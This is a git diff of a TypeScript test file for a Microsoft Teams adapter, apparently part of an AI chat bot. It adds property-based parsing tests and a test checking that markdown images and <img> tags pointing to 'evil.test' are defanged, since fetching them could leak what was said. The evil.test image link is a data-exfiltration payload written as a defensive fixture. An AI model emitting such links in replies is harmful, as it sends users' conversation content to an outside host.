@@ -2,7 +2,7 @@ import assert from 'node:assert/strict'
 import fc from 'fast-check'
 import { addressOf, createAddresses, threadOf } from '../../../adapters/teams/address.ts'
 import { parse } from '../../../adapters/teams/parse.ts'
-import { aiEntity, settled } from '../../../adapters/teams/render.ts'
+import { aiEntity, partial, plainMessage, settled } from '../../../adapters/teams/render.ts'
 import { type Activity, refusalOf } from '../../../adapters/teams/sdk.ts'
 import { meaningOf } from '../../../adapters/teams/stream.ts'
 import { distrust } from '../../../adapters/teams/trust.ts'
@@ -56,6 +56,14 @@ describe('reading an activity of Teams', () => {
         return parsed === undefined || typeof parsed.kind === 'string'
       }),
     )
+    const field = fc.constantFrom('text', 'entities', 'value', 'channelData', 'replyToId', 'name')
+    const value = fc.oneof(fc.jsonValue(), fc.array(fc.jsonValue()))
+    fc.assert(
+      fc.property(field, value, fc.constantFrom('message', 'invoke'), (name, json, type) => {
+        parse({ ...activity, type, [name]: json })
+        return true
+      }),
+    )
     fc.assert(
       fc.property(fc.jsonValue(), fc.jsonValue(), (conversation, channelData) => {
         addressOf({ ...activity, conversation: conversation as never, channelData })
@@ -95,6 +103,23 @@ describe('what of a growing text stays as it is', () => {
   it('is always a beginning of the text', () => {
     const text = fc.string({ unit: fc.constantFrom('a', ' ', '\n', '*', '`', '[', ']', '(', ')', '_') })
     fc.assert(fc.property(text, (said) => said.startsWith(settled(said))))
+  })
+})
+
+describe('text for Teams', () => {
+  it('shows no image: its address would be fetched unasked, and could carry what was said', () => {
+    const evil = 'Look! ![a](https://evil.test/?said=x) ![a[b]][ref] <img src="https://evil.test/">'
+    const safe = plainMessage(evil)['text']
+    assert.equal(safe, 'Look! ! [a](https://evil.test/?said=x) ! [a[b]][ref] &lt;img src="https://evil.test/">')
+    assert.equal(partial(evil, { sequence: 1 })['text'], safe)
+  })
+
+  it('of a growing reply begins with what was shown before', () => {
+    const text = fc.string({ unit: fc.constantFrom('a', ' ', '!', '[', ']', '(', ')', '<img', '\n') })
+    const shown = (said: string) => String(partial(settled(said).trimEnd(), { sequence: 1 })['text'])
+    fc.assert(
+      fc.property(text, fc.nat(), (said, at) => shown(said).startsWith(shown(said.slice(0, at % (said.length + 1))))),
+    )
   })
 })
 
